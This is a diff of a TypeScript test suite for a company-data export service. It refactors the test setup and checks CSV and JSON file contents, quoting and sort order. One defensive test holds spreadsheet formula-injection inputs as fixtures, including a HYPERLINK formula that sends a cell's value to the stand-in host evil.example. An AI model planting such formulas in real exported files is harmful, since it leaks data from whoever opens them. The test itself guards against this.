@@ -1,23 +1,17 @@
 import { parse } from 'csv-parse/sync';
 import { EXPORT_CSV_COLUMNS, type Caller } from '@radar/contracts';
-import { startExportWorld, type ExportWorld } from './support/export-world';
+import { useExportWorld } from './support/export-world';
 
 describe('export files', () => {
-  let world: ExportWorld;
-  beforeAll(async () => {
-    world = await startExportWorld();
-  }, 180_000);
-  afterAll(async () => {
-    await world?.close();
-  });
+  const world = useExportWorld();
 
   /** Creates an export, waits for it and fetches its file through the presigned URL. */
   async function exportFile(caller: Caller, body: Record<string, unknown>): Promise<string> {
-    const created = await world.create(caller, { name: 'file', ...body });
+    const created = await world().create(caller, { name: 'file', ...body });
     expect(created.status).toBe(201);
-    const job = await world.finished(caller, created.body.export_job.id);
+    const job = await world().finished(caller, created.body.export_job.id);
     expect(job.status).toBe('completed');
-    const download = await world.download(caller, job.id);
+    const download = await world().download(caller, job.id);
     const response = await fetch(download.body.download_url);
     return response.text();
   }
@@ -25,9 +19,9 @@ describe('export files', () => {
   const csvRows = (text: string): Record<string, string>[] => parse(text, { columns: true, bom: false, relax_quotes: false });
 
   it('writes CSV with exactly the columns of decisions.md, header first, rows in the search order', async () => {
-    const caller = await world.workspace(2_000);
+    const caller = await world().workspace(2_000);
     const filters = { countries: ['Germany'], sort_by: 'name', sort_order: 'asc' };
-    const expected = await world.searchIds(caller, filters);
+    const expected = await world().searchIds(caller, filters);
     const text = await exportFile(caller, { search_filters: filters });
 
     const records: string[][] = parse(text);
@@ -38,13 +32,13 @@ describe('export files', () => {
   });
 
   it('holds the company detail values in each row, technologies joined with ";" and absent values empty', async () => {
-    const caller = await world.workspace(2_000);
-    const ids = (await world.searchIds(caller, { countries: ['France'] })).slice(0, 20);
-    const listId = await world.createList(caller, ids);
+    const caller = await world().workspace(2_000);
+    const ids = (await world().searchIds(caller, { countries: ['France'] })).slice(0, 20);
+    const listId = await world().createList(caller, ids);
     const rows = csvRows(await exportFile(caller, { source_type: 'list', list_id: listId }));
     expect(rows).toHaveLength(20);
     for (const row of rows) {
-      const detail = await world.companyDetail(caller, row.company_id!);
+      const detail = await world().companyDetail(caller, row.company_id!);
       const cell = (value: unknown) => (value === null ? '' : String(value));
       expect(row).toEqual({
         company_id: detail.company_id,
@@ -67,7 +61,7 @@ describe('export files', () => {
   });
 
   it('neutralises spreadsheet formulas: cells starting with = + - @ tab or CR, or the full-width ＝ ＋ － ＠, get a leading apostrophe', async () => {
-    const caller = await world.workspace(100);
+    const caller = await world().workspace(100);
     const dangerous = [
       '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
       '+SUM(1,2)',
@@ -81,8 +75,8 @@ describe('export files', () => {
       '＠cmd Wide',
     ];
     const ids: string[] = [];
-    for (const name of dangerous) ids.push(await world.addCompany({ name, description: '=1+1 in the description too' }));
-    const listId = await world.createList(caller, ids);
+    for (const name of dangerous) ids.push(await world().addCompany({ name, description: '=1+1 in the description too' }));
+    const listId = await world().createList(caller, ids);
     const rows = csvRows(await exportFile(caller, { source_type: 'list', list_id: listId, sort_by: 'name' }));
     expect(rows.map((row) => row.name).sort()).toEqual(dangerous.map((name) => `'${name}`).sort());
     expect(rows.every((row) => row.description === "'=1+1 in the description too")).toBe(true);
@@ -91,11 +85,11 @@ describe('export files', () => {
   });
 
   it('quotes commas, quotes and line breaks per RFC 4180, and keeps UTF-8', async () => {
-    const caller = await world.workspace(100);
+    const caller = await world().workspace(100);
     const name = 'Müller, "Söhne" & Co — 東京';
     const description = 'Line one, with a comma\r\nLine "two"\nLine three';
-    const id = await world.addCompany({ name, description });
-    const listId = await world.createList(caller, [id]);
+    const id = await world().addCompany({ name, description });
+    const listId = await world().createList(caller, [id]);
     const text = await exportFile(caller, { source_type: 'list', list_id: listId });
     expect(text).toContain('"Müller, ""Söhne"" & Co — 東京"');
     const [row] = csvRows(text);
@@ -103,23 +97,23 @@ describe('export files', () => {
   });
 
   it('writes JSON as one array of company detail objects, equal to GET /companies/{id}, in the search order', async () => {
-    const caller = await world.workspace(2_000);
+    const caller = await world().workspace(2_000);
     const filters = { countries: ['Spain'], sort_by: 'founded_year', sort_order: 'desc' };
-    const expected = await world.searchIds(caller, filters);
+    const expected = await world().searchIds(caller, filters);
     const text = await exportFile(caller, { search_filters: filters, export_format: 'json' });
     const companies = JSON.parse(text) as Record<string, unknown>[];
     expect(Array.isArray(companies)).toBe(true);
     expect(companies.map((company) => company.company_id)).toEqual(expected);
     for (const company of companies.slice(0, 25)) {
-      expect(company).toEqual(await world.companyDetail(caller, company.company_id as string));
+      expect(company).toEqual(await world().companyDetail(caller, company.company_id as string));
     }
   });
 
   it('writes a saved list in the search sort asked for, not in the order it was saved', async () => {
-    const caller = await world.workspace(100);
-    const byName = await world.searchIds(caller, { countries: ['Germany'], sort_by: 'name', sort_order: 'asc' });
+    const caller = await world().workspace(100);
+    const byName = await world().searchIds(caller, { countries: ['Germany'], sort_by: 'name', sort_order: 'asc' });
     const chosen = byName.slice(0, 30);
-    const listId = await world.createList(caller, [...chosen].reverse());
+    const listId = await world().createList(caller, [...chosen].reverse());
     const rows = csvRows(await exportFile(caller, { source_type: 'list', list_id: listId, sort_by: 'name', sort_order: 'asc' }));
     expect(rows.map((row) => row.company_id)).toEqual(chosen);
   });
